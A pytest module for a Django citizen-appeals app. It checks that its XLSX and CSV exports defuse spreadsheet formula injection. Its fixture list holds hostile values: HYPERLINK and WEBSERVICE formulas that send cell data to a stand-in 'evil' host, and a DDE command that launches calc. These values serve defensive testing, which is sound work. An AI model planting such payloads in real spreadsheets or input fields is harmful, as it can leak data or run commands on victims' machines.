"""Exports carry no live spreadsheet formulas (security audit, item 3).

Citizens' texts, names and links, and the names people type (topics, ministries, municipalities,
accounts, officials) come out of every XLSX as plain text cells, and out of every CSV with a
leading quote when a spreadsheet would otherwise read them as a formula (the OWASP rule).
"""

import csv
import io
from datetime import date, datetime, timedelta

import openpyxl
import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from analytics import exports, reports
from appeals.models import Appeal, Municipality, Topic

from ..factories import AccountFactory, AppealFactory, MinistryFactory, OfficialFactory

KRSK = timezone.get_default_timezone()
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=KRSK)
WEEK = {"period": "custom", "from": "2026-11-09", "to": "2026-11-15"}
EXPORT = reverse("admin:appeals_appeal_export")
DASHBOARD = reverse("admin:analytics_dashboard")
TABLES = ("topics", "timeline", "platforms", "municipalities", "ministries", "slowest")

# What Excel or LibreOffice would run: formulas, a DDE command, and each character OWASP lists.
HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    '=WEBSERVICE("http://evil/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
OWASP = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def hostile(db):
    """For each hostile value: a ministry, topic, municipality, account and official named so, and
    two appeals of the week 9–15 Nov whose text, author, links and answer are that value — one
    open and overdue now, one resolved (so that every table of figures has a row for it)."""
    appeals = []
    for i, value in enumerate(HOSTILE):
        ministry = MinistryFactory(name=value)
        named = {
            "ministry": ministry,
            "topic": Topic.objects.create(code=f"hostile-{i}", name=value, default_ministry=ministry),
            "municipality": Municipality.objects.create(name=value, kind=Municipality.Kind.CITY, patterns="(?!)"),
            "assignee": OfficialFactory(ministry=ministry, full_name=value),
            "account": AccountFactory(title=value),
        }
        received = datetime(2026, 11, 9 + i % 7, 9, 0, tzinfo=KRSK)
        citizen = {"text": value, "author_name": value, "author_url": value, "permalink": value}
        appeals.append(AppealFactory(**named, **citizen, received_at=received, status=Appeal.Status.IN_PROGRESS))
        appeals.append(
            AppealFactory(
                **named,
                **citizen,
                received_at=received,
                status=Appeal.Status.RESOLVED,
                first_answered_at=received + timedelta(hours=1),
                resolved_at=received + timedelta(hours=10),
                answer=value,
            )
        )
    return appeals


def login(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def as_read(value: str) -> str:
    """XML reads a carriage return as a line feed (Excel as well as openpyxl)."""
    return value.replace("\r", "\n")


def xlsx_rows(content: bytes) -> list[list]:
    """The values of the workbook's first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in book.worksheets[0].iter_rows()]


def assert_plain_text(content: bytes) -> list[list]:
    """No cell is a formula, every text is a text cell, and each hostile value reads back as it
    was written. Returns the rows of the first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.data_type != "s"] == []
    assert {as_read(value) for value in HOSTILE} <= {cell.value for cell in cells}
    return xlsx_rows(content)


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(rows: list[list[str]]) -> None:
    """No value begins with a character that starts a formula; each hostile one is quoted."""
    values = [value for row in rows for value in row]
    assert [value for value in values if value.startswith(OWASP)] == []
    assert {f"'{value}" for value in HOSTILE} <= set(values)


@pytest.mark.django_db
def test_it_writes_the_appeals_list_to_xlsx_as_plain_text(hostile, operator):
    response = login(operator).get(EXPORT, {"format": "xlsx"})
    rows = assert_plain_text(response.content)
    header, first = rows[0], rows[1]
    by_pk = {appeal.pk: appeal for appeal in hostile}
    appeal = by_pk[first[0]]  # the number stays a number, the date a date
    assert first[1] == timezone.localtime(appeal.received_at).replace(tzinfo=None)
    for column in ("Тематика", "Муниципальное образование", "Ведомство", "Исполнитель", "Аккаунт", "Автор", "Текст"):
        assert first[header.index(column)] == as_read(appeal.text), column


@pytest.mark.django_db
def test_it_quotes_formulas_in_the_appeals_list_csv(hostile, operator):
    rows = csv_rows(login(operator).get(EXPORT, {"format": "csv"}))
    assert_neutralised(rows)
    assert len(rows) == 1 + len(hostile)
    assert {int(row[0]) for row in rows[1:]} == {appeal.pk for appeal in hostile}


@pytest.mark.django_db
@pytest.mark.parametrize("table", TABLES)
def test_it_quotes_formulas_in_each_dashboard_table_as_csv(hostile, operator, table):
    assert_neutralised(csv_rows(login(operator).get(DASHBOARD, {**WEEK, "format": "csv", "table": table})))


@pytest.mark.django_db
@pytest.mark.parametrize("table", TABLES)
def test_it_writes_each_dashboard_table_to_xlsx_as_plain_text(hostile, operator, table):
    response = login(operator).get(DASHBOARD, {**WEEK, "format": "xlsx", "table": table})
    assert_plain_text(response.content)


@pytest.mark.django_db
def test_it_writes_all_dashboard_tables_to_one_workbook_as_plain_text(hostile, operator):
    response = login(operator).get(DASHBOARD, {**WEEK, "format": "xlsx"})
    assert_plain_text(response.content)
    assert len(openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames) == len(TABLES)


@pytest.mark.django_db
def test_it_writes_the_weekly_report_as_plain_text(hostile):
    report = reports.build(date(2026, 11, 9), now=NOW)
    assert_plain_text(bytes(report.content))
    worst = openpyxl.load_workbook(io.BytesIO(bytes(report.content)))["Худшие просрочки"]
    texts = {row[-1].value for row in worst.iter_rows(min_row=2)}
    assert texts == {as_read(value) for value in HOSTILE}


def test_it_leaves_the_systems_own_numbers_alone_in_csv():
    response = exports.csv_response(["n", "x", "text"], [[-5, -2.5, "-5"], [None, 0, "@x"]], "t.csv")
    assert csv_rows(response)[1:] == [["-5", "-2.5", "'-5"], ["", "0", "'@x"]]


@pytest.mark.django_db
def test_it_exports_a_text_with_control_characters_a_workbook_cannot_hold(operator):
    AppealFactory(text="Нет воды\x0b\x1b третий день", author_name="\x07Анна")
    response = login(operator).get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    header, row = xlsx_rows(response.content)
    assert (row[header.index("Текст")], row[header.index("Автор")]) == ("Нет воды третий день", "Анна")
